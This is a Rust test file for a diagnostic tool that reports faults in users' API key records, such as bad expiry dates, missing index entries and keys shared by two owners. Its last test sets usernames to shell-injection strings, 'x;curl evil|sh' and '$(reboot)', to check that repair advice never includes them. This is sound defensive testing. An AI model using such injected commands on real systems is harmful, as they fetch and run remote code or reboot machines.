//! Findings in an owner's records.

use super::*;
use crate::doctor::finding::Level;
use apikeys_core::api_key::record::{INDEX_ATTRIBUTE, index_value};
use serde_json::{Value, json};

const ID: &str = "abc123def456";
const HASH: &str = "$sha256$zo75w-Di9hNE34M0jJKx5QRdG50_DeOqx1uA1mXI3Fk";

fn rules() -> Rules<'static> {
    let now = UnixMillis::parse_rfc3339("2026-11-24T10:00:00Z").unwrap();
    Rules {
        now,
        soon: now.plus_ms(30 * DAY_MS),
        provider: "api-keys",
        gateway_accounts: vec!["service-account-gateway".into()],
    }
}

fn alice(change: impl FnOnce(&mut Value)) -> User {
    let mut user = json!({"id": "1", "username": "alice", "enabled": true, "attributes": {
        KEYS_ATTRIBUTE: [format!("key:{ID}:{HASH}")],
        INDEX_ATTRIBUTE: [index_value(ID)],
        format!("apiKey_{ID}_expiresAt"): ["2100-01-01T00:00:00Z"],
    }});
    change(&mut user);
    User::from_value(user).unwrap()
}

fn link(id: &str) -> Vec<Link> {
    vec![Link {
        provider: "api-keys".into(),
        id: id.into(),
        name: "alice".into(),
    }]
}

/// The only finding, as its level and its whole text.
fn only(findings: &[Finding]) -> (Level, String) {
    let [finding] = findings else {
        panic!("{findings:?}")
    };
    assert!(!finding.advice.is_empty(), "says what to do: {finding:?}");
    assert!(!finding.text().contains("$sha256$"));
    (finding.level, finding.text())
}

#[test]
fn an_owner_as_it_should_be_is_not_told() {
    assert_eq!(rules().check(&alice(|_| ()), &link("1")), []);
    let nobody = alice(|user| user["attributes"] = json!({"team": ["red"]}));
    assert_eq!(rules().check(&nobody, &[]), []);
}

#[test]
fn each_fault_of_a_record_is_told_with_what_to_do() {
    let end = format!("apiKey_{ID}_expiresAt");
    let [limit, networks, switch, labels] = ["rateLimit", "allowedAddresses", "disabled", "labels"]
        .map(|field| format!("apiKey_{ID}_{field}"));
    for (path, value, level, words) in [
        (
            INDEX_ATTRIBUTE,
            json!([]),
            Level::Error,
            "reindex --owner alice",
        ),
        (end.as_str(), json!(["soon"]), Level::Error, "not RFC 3339"),
        (&end, json!([]), Level::Error, "no expiresAt"),
        (&limit, json!(["many"]), Level::Error, "rateLimit is not"),
        (
            &networks,
            json!(["here"]),
            Level::Error,
            "allowedAddresses are not",
        ),
        (&switch, json!(["yes"]), Level::Error, "disabled is neither"),
        (
            &labels,
            json!(["a\nb"]),
            Level::Error,
            "labels are too long",
        ),
        (
            &end,
            json!(["2026-12-01T00:00:00Z"]),
            Level::Warning,
            "rotate abc123def456",
        ),
        (
            KEYS_ATTRIBUTE,
            json!([format!("key:{ID}:{HASH}"), "rubbish"]),
            Level::Warning,
            "1 values of apiKeys",
        ),
        (
            INDEX_ATTRIBUTE,
            json!([index_value(ID), index_value("zzz123def456")]),
            Level::Warning,
            "names keys that are not there",
        ),
    ] {
        let owner = alice(|user| user["attributes"][path] = value.clone());
        let (found, text) = only(&rules().check(&owner, &link("1")));
        assert!(found == level && text.contains(words), "{text}");
    }
    let odd = alice(|user| {
        user["attributes"] = json!({KEYS_ATTRIBUTE: [format!("key:Prod:{HASH}")]});
    });
    assert!(
        only(&rules().check(&odd, &link("1")))
            .1
            .contains("cannot be in a key")
    );
    let expired = alice(|user| user["attributes"][&end] = json!(["2020-01-01T00:00:00Z"]));
    assert_eq!(
        rules().check(&expired, &link("1")),
        [],
        "nothing is wrong with it"
    );
}

#[test]
fn each_fault_of_a_link_is_told_with_what_to_do() {
    let (level, text) = only(&rules().check(&alice(|_| ()), &[]));
    assert!(
        level == Level::Error && text.contains("not linked"),
        "{text}"
    );
    let (level, text) = only(&rules().check(&alice(|_| ()), &link("2")));
    assert!(
        level == Level::Error && text.contains("another user's id"),
        "{text}"
    );
    let keyless = alice(|user| user["attributes"] = json!({}));
    let (level, text) = only(&rules().check(&keyless, &link("1")));
    assert!(
        level == Level::Warning && text.contains("holds no keys"),
        "{text}"
    );
}

#[test]
fn owners_that_should_hold_none_or_cannot_use_them_are_told() {
    let own = alice(|user| user["username"] = json!("service-account-gateway"));
    assert_eq!(only(&rules().check(&own, &link("1"))).0, Level::Error);
    let large = alice(|user| user["attributes"]["picture"] = json!(["x".repeat(146_000)]));
    let (level, text) = only(&rules().check(&large, &link("1")));
    assert!(level == Level::Error && text.contains("143 KiB"), "{text}");
    let waiting = alice(|user| user["requiredActions"] = json!(["UPDATE_PASSWORD"]));
    let (level, text) = only(&rules().check(&waiting, &link("1")));
    assert!(
        level == Level::Warning && text.contains("UPDATE_PASSWORD"),
        "{text}"
    );
}

#[test]
fn a_key_of_two_owners_is_told_once() {
    let owners = |names: &[&str]| names.iter().map(|&name| name.to_owned()).collect();
    let holders = [
        (ID.to_owned(), owners(&["alice", "bob"])),
        ("zzz123def456".to_owned(), owners(&["alice"])),
    ];
    let (level, text) = only(&collisions(holders.into()));
    assert!(
        level == Level::Error && text.contains("\"alice\" and \"bob\""),
        "{text}"
    );
}

#[test]
fn an_advice_is_no_trap_for_who_copies_it() {
    for name in ["x;curl evil|sh", "$(reboot)", "--all", "a b"] {
        let owner = alice(|user| {
            user["username"] = json!(name);
            user["attributes"][INDEX_ATTRIBUTE] = json!([]);
        });
        let found = rules().check(&owner, &link("1"));
        assert_eq!(found[0].advice, "apikeys reindex --owner 1");
    }
}
